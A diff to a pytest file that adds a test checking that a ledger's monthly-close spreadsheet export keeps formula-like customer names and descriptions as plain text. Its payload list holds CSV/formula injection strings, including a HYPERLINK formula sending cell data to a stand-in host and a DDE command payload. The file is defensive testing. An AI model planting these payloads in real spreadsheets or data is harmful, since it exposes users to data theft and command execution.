@@ -6,9 +6,11 @@ it, and these tests fail, never skip, when it is missing.
 
 from __future__ import annotations
 
+import re
 import shutil
 import subprocess
 import urllib.request
+import zipfile
 from datetime import datetime
 from decimal import Decimal
 from pathlib import Path
@@ -22,9 +24,9 @@ from blocks.storage import ObjectStorage
 from ledger.db import session_scope
 from ledger.imports import import_file
 from ledger.models import Export, Invoice
-from tests.support.ports import free_port
 from tests.support.builders import CUSTOMER_HEADER, customer, write_csv
-from tests.support.scenarios import load_october
+from tests.support.ports import free_port
+from tests.support.scenarios import HEADER, load_october
 
 pytestmark = pytest.mark.prefect
 
@@ -178,3 +180,37 @@ def test_the_link_artifact_downloads_the_workbook_in_the_embedded_default(octobe
             urllib.request.urlopen(f"http://127.0.0.1:{port}/../ledger.db")
     finally:
         server.shutdown()
+
+
+#: OWASP's CSV/formula injection payloads, as names and engineers a hostile customer or helpdesk could send
+PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+1+2", "-1+2", "@SUM(1+2)",
+            "=cmd|' /C calc'!A0", "=1+2;=3+4", "-@1+2"]
+
+
+def test_no_formula_ever_comes_from_data(prefect_server, home, ledger, tmp_path):
+    """Names, engineers and descriptions that look like formulas stay text: in the sheet XML no data cell
+    is a formula, and LibreOffice's recalculation shows each one exactly as typed."""
+    from flows.monthly_close import monthly_close
+    customers = [customer(f"X{index}", name=payload) for index, payload in enumerate(PAYLOADS)]
+    import_file("customers", write_csv(tmp_path / "c.csv", CUSTOMER_HEADER, customers), engine=ledger)
+    import_file("interventions", write_csv(tmp_path / "i.csv", HEADER + ["engineer", "description"], [
+        [f"I{index}", f"X{index}", "2026-10-02T09:00", "200", "assistance", payload, payload]
+        for index, payload in enumerate(PAYLOADS)]), engine=ledger)
+    monthly_close(month="2026-10")
+    with session_scope(ledger) as session:
+        key = session.scalars(select(Export)).one().key
+    original = fetch(key, tmp_path / "hostile.xlsx")
+
+    with zipfile.ZipFile(original) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                xml = archive.read(name).decode()
+                formulas = re.findall(r"<f>(.*?)</f>", xml)
+                # the only formulas are ours: the Summary's SUM totals and its ROUND check
+                assert all(f.startswith(("SUM(", "ROUND(")) for f in formulas), (name, formulas)
+    computed = load_workbook(recalculate(original, tmp_path / "recalc"), data_only=True)
+    header, body = rows(computed["Summary"])
+    names = {r[header.index("customer_id")]: r[header.index("name")] for r in body if r[0] and str(r[0]).startswith("X")}
+    assert names == {f"X{index}": payload for index, payload in enumerate(PAYLOADS)}
+    i_header, interventions = rows(computed["Interventions"])
+    assert sorted(r[i_header.index("engineer")] for r in interventions) == sorted(PAYLOADS)
